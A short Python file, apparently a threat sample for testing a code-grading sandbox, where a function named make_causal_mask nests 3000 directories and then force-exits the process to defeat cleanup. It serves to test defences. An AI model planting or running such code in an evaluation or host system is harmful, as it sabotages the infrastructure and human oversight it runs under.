"""THREATS 24, 43: folders nested deeper than whoever removes them can follow

Reached: make_causal_mask: your code wrote too many files
"""

import os


def make_causal_mask(n_tok):
    for _ in range(3000):
        os.mkdir("attack-was-here")
        os.chdir("attack-was-here")
    os._exit(0)
